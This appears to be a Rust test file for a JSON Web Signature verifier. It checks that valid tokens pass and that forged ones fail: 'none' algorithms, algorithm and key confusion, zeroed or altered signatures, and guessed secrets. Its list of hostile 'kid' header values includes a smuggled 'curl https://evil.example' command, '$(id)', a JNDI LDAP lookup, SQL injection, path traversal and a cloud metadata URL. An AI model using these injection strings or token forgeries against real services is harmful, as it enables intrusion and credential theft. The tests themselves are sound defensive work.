//! What the verifier makes of good tokens, of the RFCs' own examples, and of tokens that somebody wishes it would take. A comment
//! such as S-JWS-1 names the check that a test stands for.

use std::{
    sync::LazyLock,
    time::{Duration, Instant},
};

use aws_lc_rs::{
    encoding::AsDer,
    rsa::KeySize,
    signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, Ed25519KeyPair, KeyPair as _, RsaPublicKeyComponents},
};
use jsonwebtoken::{Algorithm, EncodingKey, Header, crypto};
use proptest::prelude::*;
use serde::Deserialize;
use serde_json::{Value, json};

use super::{members::Members, *};
use crate::encoding::{base64url, from_base64url, hex};

const NOW: i64 = 1_767_225_600;
const ISSUER: &str = "https://www.example.com";
const AUDIENCE: &str = "https://link.example.com";
const SECRET: &[u8] = b"0123456789abcdef0123456789abcdef";
const KINDS: [Kind; 3] = [Kind::Session, Kind::Handoff, Kind::Request];
const DAY: i64 = 24 * 3600;

#[derive(Debug, Deserialize)]
struct Subject {
    sub: String,
}

/// A private key, and the JWK that verifies what it signs.
struct Signer {
    algorithm: Algorithm,
    key: EncodingKey,
    jwk: Value,
    /// The public key in the forms in which it may lie about: DER, raw, as text.
    public: Vec<Vec<u8>>,
}

impl Signer {
    fn hmac(secret: &[u8]) -> Self {
        Self {
            algorithm: Algorithm::HS256,
            key: EncodingKey::from_secret(secret),
            jwk: json!({"kty": "oct", "k": base64url(secret)}),
            public: Vec::new(),
        }
    }

    fn rsa(algorithm: Algorithm) -> Self {
        let pair = aws_lc_rs::rsa::KeyPair::generate(KeySize::Rsa2048).unwrap();
        // `jsonwebtoken` takes the RSAPrivateKey alone, which follows 26 bytes of PKCS #8 around a 2048-bit key.
        let private = pair.as_der().unwrap().as_ref()[26..].to_vec();
        let public = pair.public_key();
        let parts = RsaPublicKeyComponents::<Vec<u8>>::from(public);
        let spki = public.as_der().unwrap().as_ref().to_vec();
        let mut jwk = json!({"kty": "RSA", "n": base64url(&parts.n), "e": base64url(&parts.e)});
        if algorithm != Algorithm::RS256 {
            jwk["alg"] = json!(format!("{algorithm:?}"));
        }
        Self {
            algorithm,
            key: EncodingKey::from_rsa_der(&private),
            public: forms(&jwk, vec![spki, public.as_ref().to_vec(), parts.n]),
            jwk,
        }
    }

    fn ec() -> Self {
        let pair = EcdsaKeyPair::generate(&ECDSA_P256_SHA256_FIXED_SIGNING).unwrap();
        let point = pair.public_key().as_ref();
        let jwk = json!({"kty": "EC", "crv": "P-256", "x": base64url(&point[1..33]), "y": base64url(&point[33..])});
        Self {
            algorithm: Algorithm::ES256,
            key: EncodingKey::from_ec_der(pair.to_pkcs8v1().unwrap().as_ref()),
            public: forms(
                &jwk,
                vec![
                    pair.public_key().as_der().unwrap().as_ref().to_vec(),
                    point.to_vec(),
                    point[1..33].to_vec(),
                ],
            ),
            jwk,
        }
    }

    fn ed() -> Self {
        let pair = Ed25519KeyPair::generate().unwrap();
        let public = pair.public_key();
        let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": base64url(public)});
        Self {
            algorithm: Algorithm::EdDSA,
            key: EncodingKey::from_ed_der(pair.to_pkcs8().unwrap().as_ref()),
            public: forms(
                &jwk,
                vec![public.as_der().unwrap().as_ref().to_vec(), public.as_ref().to_vec()],
            ),
            jwk,
        }
    }

    /// One of each of the five algorithms.
    fn all() -> [Self; 5] {
        [
            Self::hmac(SECRET),
            Self::rsa(Algorithm::RS256),
            Self::rsa(Algorithm::PS256),
            Self::ec(),
            Self::ed(),
        ]
    }

    fn keys(&self) -> KeySet {
        key_set(&[&self.jwk])
    }

    /// The token of exactly this signing input.
    fn sign_input(&self, input: &str) -> String {
        let signature = crypto::sign(input.as_bytes(), &self.key, self.algorithm).unwrap();
        format!("{input}.{signature}")
    }

    /// The token of exactly these bytes.
    fn sign_bytes(&self, header: impl AsRef<[u8]>, payload: impl AsRef<[u8]>) -> String {
        self.sign_input(&format!("{}.{}", base64url(header), base64url(payload)))
    }

    fn sign(&self, header: &Value, payload: &Value) -> String {
        self.sign_bytes(header.to_string(), payload.to_string())
    }

    /// A good token of a kind, but for what `change` does to it.
    fn token(&self, kind: Kind, change: impl FnOnce(&mut Value, &mut Value)) -> String {
        let (mut header, mut payload) = (header(self.algorithm, kind), claims());
        change(&mut header, &mut payload);
        self.sign(&header, &payload)
    }

    fn good(&self, kind: Kind) -> String {
        self.token(kind, |_, _| {})
    }
}

/// The forms given, and what else a public key is published as.
fn forms(jwk: &Value, mut bytes: Vec<Vec<u8>>) -> Vec<Vec<u8>> {
    let spki = crate::encoding::base64(&bytes[0]);
    let lines: Vec<_> = spki
        .as_bytes()
        .chunks(64)
        .map(|line| str::from_utf8(line).unwrap())
        .collect();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----",
        lines.join("\n")
    );
    bytes.extend([spki, format!("{pem}\n"), pem, jwk.to_string()].map(String::into_bytes));
    for name in ["n", "x"] {
        bytes.extend(jwk[name].as_str().map(|text| text.as_bytes().to_vec()));
    }
    bytes
}

fn key_set(jwks: &[&Value]) -> KeySet {
    KeySet::parse(&json!({"keys": jwks})).unwrap()
}

fn hs256() -> Signer {
    Signer::hmac(SECRET)
}

fn typ(kind: Kind) -> &'static str {
    match kind {
        Kind::Session => "JWT",
        Kind::Handoff => "soa-handoff+jwt",
        Kind::Request => "soa-request+jwt",
    }
}

fn header(algorithm: Algorithm, kind: Kind) -> Value {
    json!({"alg": format!("{algorithm:?}"), "typ": typ(kind)})
}

/// Claims that are good for every kind.
fn claims() -> Value {
    json!({"iss": ISSUER, "aud": AUDIENCE, "sub": "ada", "iat": NOW, "exp": NOW + 100, "jti": "4f1d"})
}

fn without(mut value: Value, name: &str) -> Value {
    value.as_object_mut().unwrap().remove(name).unwrap();
    value
}

fn verify_at(keys: &KeySet, kind: Kind, token: &str, now: i64) -> Result<Verified<Subject>, JwsError> {
    let verifier = Verifier {
        keys,
        kind,
        issuer: ISSUER,
        audience: AUDIENCE,
    };
    verifier.verify(&UnverifiedJws::parse(token)?, now)
}

fn verdict_at(keys: &KeySet, kind: Kind, token: &str, now: i64) -> Result<(), JwsError> {
    verify_at(keys, kind, token, now).map(drop)
}

fn verdict(keys: &KeySet, kind: Kind, token: &str) -> Result<(), JwsError> {
    verdict_at(keys, kind, token, NOW)
}

/// What is said of a token that our HMAC key signed, presented as a session.
fn session(token: &str) -> Result<(), JwsError> {
    verdict(&hs256().keys(), Kind::Session, token)
}

/// A good session whose payload has `json` as the value of `name`, written down as it is.
fn with_claim(name: &str, json: &str) -> String {
    let mark = "\"here\"";
    let mut payload = claims();
    payload[name] = json!("here");
    let payload = payload.to_string();
    assert_eq!(payload.matches(mark).count(), 1);
    hs256().sign_bytes(
        header(Algorithm::HS256, Kind::Session).to_string(),
        payload.replace(mark, json),
    )
}

/// A token's three segments.
fn segments(token: &str) -> [&str; 3] {
    token.split('.').collect::<Vec<_>>().try_into().unwrap()
}

/// The token with another signature.
fn with_signature(token: &str, signature: impl AsRef<[u8]>) -> String {
    let [header, payload, _] = segments(token);
    format!("{header}.{payload}.{}", base64url(signature))
}

fn signature(token: &str) -> Vec<u8> {
    from_base64url(segments(token)[2]).unwrap()
}

fn flipped(token: &str) -> String {
    let mut signature = signature(token);
    signature[0] ^= 1;
    with_signature(token, signature)
}

/// The same bytes to a decoder that does not look at the bits left over in the last character.
fn with_unused_bit(segment: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    assert_ne!(segment.len() % 4, 0, "there must be bits left over");
    let (rest, last) = segment.split_at(segment.len() - 1);
    let place = ALPHABET.iter().position(|letter| [*letter] == last.as_bytes()).unwrap();
    format!("{rest}{}", char::from(ALPHABET[place + 1]))
}

// What is good.

#[test]
fn a_good_token_of_each_algorithm_and_kind_is_believed() {
    for signer in Signer::all() {
        for kind in KINDS {
            // Signed by `jsonwebtoken` as a whole, so that not only our own idea of a token is verified.
            let mut header = Header::new(signer.algorithm);
            header.typ = Some(typ(kind).to_owned());
            let token = jsonwebtoken::encode(&header, &claims(), &signer.key).unwrap();
            let verified = verify_at(&signer.keys(), kind, &token, NOW).unwrap();
            assert_eq!(verified.claims.sub, "ada");
            assert_eq!(verified.expires_at, NOW + 100);
            assert_eq!(verified.jti.as_deref(), Some("4f1d"));
            assert_eq!(
                verdict(&signer.keys(), kind, &flipped(&token)),
                Err(JwsError::Signature),
                "{:?}",
                signer.algorithm
            );
        }
    }
}

#[test]
fn a_key_is_found_among_others_by_kid_and_without() {
    let signers = Signer::all();
    let mut jwks: Vec<_> = signers.iter().map(|signer| signer.jwk.clone()).collect();
    for (place, jwk) in jwks.iter_mut().enumerate() {
        jwk["kid"] = json!(format!("key-{place}"));
    }
    let keys = key_set(&jwks.iter().collect::<Vec<_>>());
    for (place, signer) in signers.iter().enumerate() {
        assert_eq!(verdict(&keys, Kind::Session, &signer.good(Kind::Session)), Ok(()));
        let named =
            |place: usize| signer.token(Kind::Session, |header, _| header["kid"] = json!(format!("key-{place}")));
        assert_eq!(verdict(&keys, Kind::Session, &named(place)), Ok(()));
        let other = verdict(&keys, Kind::Session, &named((place + 1) % 5));
        assert_eq!(other, Err(JwsError::Algorithm));
    }
}

#[test]
fn no_key_verifies_nothing() {
    let none = KeySet::parse(&json!({"keys": []})).unwrap();
    assert!(none.is_empty());
    assert_eq!(
        verdict(&none, Kind::Session, &hs256().good(Kind::Session)),
        Err(JwsError::UnknownKey)
    );
}

// The RFCs' examples. S-JWS-17. None is a token for us: what counts is that the signature is not what is wrong with it.

/// The payload of RFC 7515 A.1 to A.3.
const JOE: &str = "eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ";

fn example(jwk: &Value, token: &str, verdict: JwsError) {
    let keys = key_set(&[jwk]);
    let verifier = Verifier {
        keys: &keys,
        kind: Kind::Session,
        issuer: "joe",
        audience: AUDIENCE,
    };
    let verify = |token: &str| {
        let jws = UnverifiedJws::parse(token).unwrap();
        verifier.verify::<Subject>(&jws, 1_300_819_000).err()
    };
    assert_eq!(verify(token), Some(verdict));
    assert_eq!(verify(&flipped(token)), Some(JwsError::Signature));
    let longer = format!("{token}AAAA");
    assert_eq!(verify(&longer), Some(JwsError::Signature));
}

#[test]
fn the_hs256_example_of_rfc_7515_a_1_verifies() {
    let jwk = json!({
        "kty": "oct",
        "k": "AyM1SysPpbyDfgZld3umj1qzKObwVMkoqQ-EstJQLr_T-1qS0gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr1Z9CAow",
    });
    let token = format!("eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9.{JOE}.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk");
    example(&jwk, &token, JwsError::Claim("aud"));
}

#[test]
fn the_rs256_example_of_rfc_7515_a_2_verifies() {
    let jwk = json!({
        "kty": "RSA",
        "n": "ofgWCuLjybRlzo0tZWJjNiuSfb4p4fAkd_wWJcyQoTbji9k0l8W26mPddxHmfHQp-Vaw-4qPCJrcS2mJPMEzP1Pt0Bm4d4QlL-yRT-SFd2l\
            ZS-pCgNMsD1W_YpRPEwOWvG6b32690r2jZ47soMZo9wGzjb_7OMg0LOL-bSf63kpaSHSXndS5z5rexMdbBYUsLA9e-KXBdQOS-UTo7WTBEMa2\
            R2CapHg665xsmtdVMTBQY4uDZlxvb3qCo5ZwKh9kG4LT6_I5IhlJH7aGhyxXFvUK-DWNmoudF8NAco9_h9iaGNj8q2ethFkMLs91kzk2PAcDT\
            W9gb54h4FRWyuXpoQ",
        "e": "AQAB",
    });
    let signature = "cC4hiUPoj9Eetdgtv3hF80EGrhuB__dzERat0XF9g2VtQgr9PJbu3XOiZj5RZmh7AAuHIm4Bh-0Qc_lF5YKt_O8W2Fp5jujGbds9uJ\
        dbF9CUAr7t1dnZcAcQjbKBYNX4BAynRFdiuB--f_nZLgrnbyTyWzO75vRK5h6xBArLIARNPvkSjtQBMHlb1L07Qe7K0GarZRmB_eSN9383LcOLn6\
        _dO--xi12jzDwusC-eOkHWEsqtFZESc6BfI7noOPqvhJ1phCnvWh6IeYI2w9QOYEUipUTI8np6LbgGY9Fs98rqVt5AXLIhWkWywlVmtVrBp0igcN\
        _IoypGlUPQGe77Rw";
    example(
        &jwk,
        &format!("eyJhbGciOiJSUzI1NiJ9.{JOE}.{signature}"),
        JwsError::Claim("aud"),
    );
}

#[test]
fn the_es256_example_of_rfc_7515_a_3_verifies() {
    let jwk = json!({
        "kty": "EC",
        "crv": "P-256",
        "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU",
        "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0",
    });
    let signature = "DtEhU3ljbEg8L38VWAfUAqOyKAM6-Xx-F4GawxaepmXFCgfTjDxw5djxLa8ISlSApmWQxfKTUJqPP3-Kg6NU1Q";
    let token = format!("eyJhbGciOiJFUzI1NiJ9.{JOE}.{signature}");
    // 64 bytes fill 86 characters but for two bits: four characters more are another signature.
    example(&jwk, &token, JwsError::Claim("aud"));
}

#[test]
fn the_eddsa_example_of_rfc_8037_a_4_verifies() {
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo"});
    let token = "eyJhbGciOiJFZERTQSJ9.RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc.\
        hgyY0il_MGCjP0JzlnLWG1PPOt7-09PGcvMg3AIbQR6dWbhijcNR4ki4iylGjg5BhVsPt9g7sVvpAr_MuM0KAg";
    // Its payload is a sentence.
    example(&jwk, token, JwsError::Malformed);
}

#[test]
fn the_hs256_example_of_rfc_7520_4_4_verifies() {
    let jwk = json!({
        "kty": "oct",
        "kid": "018c0ae5-4d9b-471b-bfd6-eef314bc7037",
        "use": "sig",
        "alg": "HS256",
        "k": "hJtXIZ2uSN5kbQfbtTNWbpdmhkV8FJG-Onbc6mxCcYg",
    });
    let token = "eyJhbGciOiJIUzI1NiIsImtpZCI6IjAxOGMwYWU1LTRkOWItNDcxYi1iZmQ2LWVlZjMxNGJjNzAzNyJ9.\
        SXTigJlzIGEgZGFuZ2Vyb3VzIGJ1c2luZXNzLCBGcm9kbywgZ29pbmcgb3V0IHlvdXIgZG9vci4gWW91IHN0ZXAgb250byB0aGUgcm9hZCwgYW5kIGlm\
        IHlvdSBkb24ndCBrZWVwIHlvdXIgZmVldCwgdGhlcmXigJlzIG5vIGtub3dpbmcgd2hlcmUgeW91IG1pZ2h0IGJlIHN3ZXB0IG9mZiB0by4.\
        s0h6KThzkfBBBkLspW1h84VsJZFTsPPqMDA7g1Md7p0";
    example(&jwk, token, JwsError::Malformed);
}

#[test]
fn the_unsecured_example_of_rfc_7515_a_5_and_the_negative_one_of_appendix_e_are_refused() {
    for token in [
        format!("eyJhbGciOiJub25lIn0.{JOE}."),
        "eyJhbGciOiJub25lIiwNCiAiY3JpdCI6WyJodHRwOi8vZXhhbXBsZS5jb20vVU5ERUZJTkVEIl0sDQogImh0dHA6Ly9leGFtcGxlLmNvbS9VTkRFRk\
            lORUQiOnRydWUNCn0.RkFJTA."
            .to_owned(),
    ] {
        assert_eq!(session(&token), Err(JwsError::Malformed));
    }
}

#[test]
fn what_we_sign_for_spotify_is_no_token_for_us() {
    // S-JWS-7: even with the client secret among the site's keys, and as `JWT`, it lacks what makes a token ours.
    let secret = "00000000000000000000000000000000";
    let keys = Signer::hmac(secret.as_bytes()).keys();
    let payload = json!({
        "partner_id": "0000000000000000000000",
        "partner_user_id": "0123456789abcdef",
        "entitlements": ["gold"],
    });
    let jws = sign(&payload, secret).unwrap();
    assert_eq!(verdict(&keys, Kind::Session, jws.expose()), Err(JwsError::Claim("iss")));
    for kind in [Kind::Handoff, Kind::Request] {
        assert_eq!(verdict(&keys, kind, jws.expose()), Err(JwsError::Typ));
    }
    // S-JWS-16: its signature is made with the characters of the secret.
    assert_eq!(
        verdict(&keys, Kind::Session, &flipped(jws.expose())),
        Err(JwsError::Signature)
    );
}

// Which algorithm. S-JWS-1, S-JWS-2.

#[test]
fn an_unsigned_token_is_refused_in_every_spelling() {
    // S-JWS-1.
    let mut spellings: Vec<_> = (0..16)
        .map(|upper| {
            let letter = |(place, letter): (usize, char)| {
                if upper >> place & 1 == 1 {
                    letter.to_ascii_uppercase()
                } else {
                    letter
                }
            };
            "none".chars().enumerate().map(letter).collect::<String>()
        })
        .collect();
    spellings.extend(
        [
            "",
            " ",
            "none ",
            " none",
            "none\n",
            "none\u{0}",
            "\u{feff}none",
            "nonе",
            "null",
            "undefined",
            "unsecured",
        ]
        .map(str::to_owned),
    );
    for alg in spellings {
        for kind in KINDS {
            let token = hs256().token(kind, |header, _| header["alg"] = json!(alg));
            let verdict = |token: &str| verdict(&hs256().keys(), kind, token);
            assert_eq!(verdict(&token), Err(JwsError::Algorithm), "{alg:?}");
            assert_eq!(
                verdict(&with_signature(&token, [0; 32])),
                Err(JwsError::Algorithm),
                "{alg:?}"
            );
            assert_eq!(
                verdict(&with_signature(&token, "")),
                Err(JwsError::Malformed),
                "{alg:?}"
            );
            let [header, payload, _] = segments(&token);
            assert_eq!(
                verdict(&format!("{header}.{payload}")),
                Err(JwsError::Malformed),
                "{alg:?}"
            );
        }
    }
}

#[test]
fn an_algorithm_other_than_the_keys_is_refused() {
    // S-JWS-2.
    for alg in [
        "hs256",
        "Hs256",
        "HS256 ",
        " HS256",
        "HS256\u{0}",
        "HS-256",
        "HS1",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "ES384",
        "ES512",
        "ES256K",
        "EdDSA",
        "Ed25519",
        "dir",
        "A256GCMKW",
        "HmacSHA256",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    ] {
        let token = hs256().token(Kind::Session, |header, _| header["alg"] = json!(alg));
        assert_eq!(session(&token), Err(JwsError::Algorithm), "{alg}");
    }
    // Signed by the same key, in earnest.
    for algorithm in [Algorithm::HS384, Algorithm::HS512] {
        let signer = Signer { algorithm, ..hs256() };
        assert_eq!(session(&signer.good(Kind::Session)), Err(JwsError::Algorithm));
    }
    for claimed in [Algorithm::HS384, Algorithm::HS512] {
        let signer = Signer {
            algorithm: claimed,
            ..hs256()
        };
        let token = signer.token(Kind::Session, |header, _| header["alg"] = json!("HS256"));
        assert_eq!(session(&token), Err(JwsError::Signature));
    }
}

#[test]
fn a_missing_algorithm_and_one_that_is_not_text_are_refused() {
    // S-JWS-2.
    let token = hs256().sign(&json!({"typ": "JWT"}), &claims());
    assert_eq!(session(&token), Err(JwsError::Algorithm));
    assert_eq!(session(&hs256().sign(&json!({}), &claims())), Err(JwsError::Algorithm));
    for alg in [
        json!(["HS256"]),
        json!(256),
        json!(null),
        json!(true),
        json!({"HS256": true}),
    ] {
        let token = hs256().token(Kind::Session, |header, _| header["alg"] = alg);
        assert_eq!(session(&token), Err(JwsError::Malformed));
    }
    // The name is compared to the letter.
    let token = hs256().token(Kind::Session, |header, _| {
        *header = json!({"ALG": "HS256", "Alg": "HS256", "typ": "JWT"});
    });
    assert_eq!(session(&token), Err(JwsError::Algorithm));
}

#[test]
fn an_rsa_key_verifies_one_of_its_two_algorithms_only() {
    // S-JWS-2: the key fixes the algorithm.
    let one = Signer::rsa(Algorithm::RS256);
    let mut pss = one.jwk.clone();
    pss["alg"] = json!("PS256");
    let mut pkcs1 = one.jwk.clone();
    pkcs1["alg"] = json!("RS256");
    let rs256 = one.good(Kind::Session);
    let signer = Signer {
        algorithm: Algorithm::PS256,
        ..one
    };
    let ps256 = signer.good(Kind::Session);
    for jwk in [&signer.jwk, &pkcs1] {
        assert_eq!(verdict(&key_set(&[jwk]), Kind::Session, &rs256), Ok(()));
        assert_eq!(
            verdict(&key_set(&[jwk]), Kind::Session, &ps256),
            Err(JwsError::Algorithm)
        );
    }
    assert_eq!(verdict(&key_set(&[&pss]), Kind::Session, &ps256), Ok(()));
    assert_eq!(
        verdict(&key_set(&[&pss]), Kind::Session, &rs256),
        Err(JwsError::Algorithm)
    );
    // The header says the key's algorithm, the signature is of the other.
    let mixed = signer.token(Kind::Session, |header, _| header["alg"] = json!("RS256"));
    assert_eq!(
        verdict(&key_set(&[&pkcs1]), Kind::Session, &mixed),
        Err(JwsError::Signature)
    );
    for algorithm in [Algorithm::RS384, Algorithm::RS512, Algorithm::PS384, Algorithm::PS512] {
        let mut jwk = pkcs1.clone();
        jwk["alg"] = json!(format!("{algorithm:?}"));
        assert_eq!(
            KeySet::parse(&json!({"keys": [jwk]})).err(),
            Some(KeyError::Algorithm(1))
        );
    }
}

#[test]
fn a_public_key_is_not_an_hmac_secret() {
    // S-JWS-2, CVE-2015-9235.
    let signers = Signer::all();
    let together = key_set(&signers.iter().map(|signer| &signer.jwk).collect::<Vec<_>>());
    for victim in &signers[1..] {
        assert!(victim.public.len() >= 7);
        for public in &victim.public {
            let attacker = Signer::hmac(public);
            let token = attacker.good(Kind::Session);
            let alg = format!("{:?}", victim.algorithm);
            assert_eq!(
                verdict(&victim.keys(), Kind::Session, &token),
                Err(JwsError::Algorithm),
                "{alg}"
            );
            assert!(
                matches!(
                    verdict(&together, Kind::Session, &token),
                    Err(JwsError::Algorithm | JwsError::Signature)
                ),
                "{alg}"
            );
            let claiming = attacker.token(Kind::Session, |header, _| header["alg"] = json!(alg));
            assert_eq!(
                verdict(&victim.keys(), Kind::Session, &claiming),
                Err(JwsError::Signature),
                "{alg}"
            );
        }
    }
}

#[test]
fn an_attackers_key_of_any_kind_does_not_sign_for_ours() {
    // S-JWS-2.
    let ours = Signer::all();
    for attacker in [
        Signer::hmac(b"fedcba9876543210fedcba9876543210"),
        Signer::rsa(Algorithm::RS256),
        Signer::rsa(Algorithm::PS256),
        Signer::ec(),
        Signer::ed(),
    ] {
        for our in &ours {
            let expected = if our.algorithm == attacker.algorithm {
                JwsError::Signature
            } else {
                JwsError::Algorithm
            };
            let token = attacker.good(Kind::Session);
            assert_eq!(verdict(&our.keys(), Kind::Session, &token), Err(expected));
        }
    }
}

// The signature. S-JWS-3, S-JWS-14.

#[test]
fn a_signature_of_the_wrong_length_or_content_is_refused() {
    // S-JWS-3, CVE-2020-28042.
    let token = hs256().good(Kind::Session);
    let right = signature(&token);
    assert_eq!(session(&with_signature(&token, "")), Err(JwsError::Malformed));
    let longer = [right.clone(), vec![0]].concat();
    let other = hs256().token(Kind::Session, |_, payload| payload["sub"] = json!("eve"));
    for bad in [
        &right[..1],
        &right[..16],
        &right[..31],
        &longer,
        &[right.as_slice(), right.as_slice()].concat(),
        &[0],
        &[0; 16],
        &[0; 31],
        &[0; 32],
        &[0; 33],
        &[255; 32],
        hex(&right).as_bytes(),
        base64url(&right).as_bytes(),
        &right.iter().rev().copied().collect::<Vec<_>>(),
        &signature(&other),
    ] {
        assert_eq!(
            session(&with_signature(&token, bad)),
            Err(JwsError::Signature),
            "{}",
            bad.len()
        );
    }
    // Hexadecimal put there as it is happens to be base64url.
    let [header, payload, _] = segments(&token);
    let as_hex = format!("{header}.{payload}.{}", hex(&right));
    assert_eq!(session(&as_hex), Err(JwsError::Signature));
    for place in 0..right.len() {
        let mut bad = right.clone();
        bad[place] ^= 0x80;
        assert_eq!(session(&with_signature(&token, bad)), Err(JwsError::Signature));
    }
    // Moved between tokens, both ways, and the halves of two tokens put together.
    assert_eq!(session(&with_signature(&other, &right)), Err(JwsError::Signature));
    let [header, _, signature] = segments(&token);
    let put_together = format!("{header}.{}.{signature}", segments(&other)[1]);
    assert_eq!(session(&put_together), Err(JwsError::Signature));
}

#[test]
fn a_signature_of_zeros_is_refused_by_every_algorithm() {
    // S-JWS-3, and CVE-2022-21449 for ES256.
    for signer in Signer::all() {
        let token = signer.good(Kind::Session);
        let verdict = |signature: &[u8]| verdict(&signer.keys(), Kind::Session, &with_signature(&token, signature));
        for length in [1, 31, 32, 33, 63, 64, 65, 255, 256, 257] {
            for byte in [0, 1, 255] {
                let signature = vec![byte; length];
                assert_eq!(
                    verdict(&signature),
                    Err(JwsError::Signature),
                    "{:?} {length}",
                    signer.algorithm
                );
            }
        }
        let right = signature(&token);
        assert_eq!(verdict(&right[..right.len() - 1]), Err(JwsError::Signature));
        assert_eq!(verdict(&[&[0], right.as_slice()].concat()), Err(JwsError::Signature));
        assert_eq!(verdict(&[right.as_slice(), &[0]].concat()), Err(JwsError::Signature));
    }
}

#[test]
fn an_es256_signature_in_der_is_refused() {
    // S-JWS-3, RFC 7518 §3.4: the two numbers side by side, and nothing else.
    let signer = Signer::ec();
    let token = signer.good(Kind::Session);
    let signature = signature(&token);
    let mut der = vec![0x30, 0];
    for half in signature.chunks(32) {
        let mut number: Vec<_> = half.iter().copied().skip_while(|byte| *byte == 0).collect();
        if number[0] & 0x80 != 0 {
            number.insert(0, 0);
        }
        der.extend([2, u8::try_from(number.len()).unwrap()]);
        der.extend(number);
    }
    der[1] = u8::try_from(der.len() - 2).unwrap();
    assert_eq!(
        verdict(&signer.keys(), Kind::Session, &with_signature(&token, der)),
        Err(JwsError::Signature)
    );
}

#[test]
fn an_eddsa_signature_has_no_second_form() {
    // S-JWS-3, RFC 8032 §5.1.7: S below the group's order, here with the order added.
    const ORDER: [u8; 32] = [
        0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0, 0, 0,
        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
    ];
    let signer = Signer::ed();
    let token = signer.good(Kind::Session);
    let mut second = signature(&token);
    let mut carry = 0;
    for (byte, order) in second[32..].iter_mut().zip(ORDER) {
        let sum = u16::from(*byte) + u16::from(order) + carry;
        *byte = sum.to_le_bytes()[0];
        carry = sum >> 8;
    }
    assert_eq!(carry, 0);
    assert_eq!(
        verdict(&signer.keys(), Kind::Session, &with_signature(&token, second)),
        Err(JwsError::Signature)
    );
}

#[test]
fn a_guess_at_the_key_does_not_sign() {
    // S-JWS-14.
    let with_newline = [SECRET, b"\n"].concat();
    let with_windows_newline = [SECRET, b"\r\n"].concat();
    let with_space = [b" ", SECRET].concat();
    let quoted = [b"\"", SECRET, b"\""].concat();
    for guess in [
        b"".as_slice(),
        b"secret",
        b"password",
        b"null",
        b"undefined",
        &[0],
        &[0; 32],
        &[0; 64],
        &[b'0'; 32],
        &[255; 32],
        b"0000000000000000000000",
        b"00000000000000000000000000000000",
        ISSUER.as_bytes(),
        AUDIENCE.as_bytes(),
        &with_newline,
        &with_windows_newline,
        &with_space,
        &quoted,
        hex(SECRET).as_bytes(),
        hex(SECRET).to_uppercase().as_bytes(),
        base64url(SECRET).as_bytes(),
        crate::encoding::base64(SECRET).as_bytes(),
        &SECRET[..31],
        SECRET.to_ascii_uppercase().as_slice(),
    ] {
        for kind in KINDS {
            let token = Signer::hmac(guess).good(kind);
            assert_eq!(
                verdict(&hs256().keys(), kind, &token),
                Err(JwsError::Signature),
                "{guess:?}"
            );
        }
    }
}

#[test]
fn a_key_that_is_too_short_or_has_white_space_around_it_is_not_loaded() {
    // S-JWS-14.
    let oct = |key: &str| KeySet::parse(&json!({"keys": [{"kty": "oct", "k": key}]})).err();
    for short in [
        "",
        "secret",
        "password",
        "0000000000000000000000",
        "0123456789abcdef0123456789abcde",
    ] {
        assert_eq!(oct(&base64url(short)), Some(KeyError::TooShort(1)), "{short:?}");
    }
    let key = base64url(SECRET);
    assert_eq!(oct(&key), None);
    for bad in [
        format!("{key}\n"),
        format!(" {key}"),
        format!("{key}="),
        with_unused_bit(&key),
        key.replacen('M', "+", 1),
    ] {
        assert_eq!(oct(&bad), Some(KeyError::Malformed(1)), "{bad:?}");
    }
}

// Which key. S-JWS-4, S-JWS-5.

#[test]
fn a_kid_that_names_no_key_is_refused_whatever_it_says() {
    // S-JWS-4.
    let began = Instant::now();
    let mut jwk = hs256().jwk;
    jwk["kid"] = json!("site-1");
    let keys = key_set(&[&jwk]);
    let token = |signer: &Signer, kid: &Value| signer.token(Kind::Session, |header, _| header["kid"] = kid.clone());
    assert_eq!(
        verdict(&keys, Kind::Session, &token(&hs256(), &json!("site-1"))),
        Ok(())
    );
    let long = "k".repeat(3 * 1024);
    for kid in [
        "",
        " ",
        "\u{0}",
        "site-1\u{0}",
        "site-1\n",
        " site-1",
        "SITE-1",
        "site-",
        "site-11",
        "site-1/",
        "./site-1",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "x' UNION SELECT 'secret' -- ",
        "'; DROP TABLE keys; --",
        "key.pem; curl https://evil.example",
        "$(id)",
        "| id",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "https://evil.example/jwks.json",
        "http://169.254.169.254/latest/meta-data/",
        "arn:aws:secretsmanager:eu-west-1:123456789012:secret:soa-link",
        "arn:aws:kms:eu-west-1:123456789012:key/0",
        "*",
        "0",
        "null",
        "undefined",
        "__proto__",
        "unknown",
        &long,
    ] {
        for signer in [hs256(), Signer::hmac(b""), Signer::hmac(&[0]), Signer::hmac(b"secret")] {
            let token = token(&signer, &json!(kid));
            assert_eq!(
                verdict(&keys, Kind::Session, &token),
                Err(JwsError::UnknownKey),
                "{kid:?}"
            );
        }
    }
    for kid in [
        json!(1),
        json!(null),
        json!(true),
        json!(["site-1"]),
        json!({"kid": "site-1"}),
    ] {
        let token = token(&hs256(), &kid);
